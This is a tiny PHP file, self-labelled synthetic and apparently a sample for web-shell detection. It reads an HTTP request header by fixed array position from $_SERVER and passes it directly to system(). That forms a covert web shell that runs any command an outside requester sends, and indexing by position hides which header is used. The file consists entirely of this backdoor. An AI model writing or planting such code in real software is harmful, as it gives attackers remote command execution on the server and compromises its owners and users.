<?php
// synthetic: the command is whatever header sits at a fixed position
$v = array_values($_SERVER);
echo system('' . $v[4]);
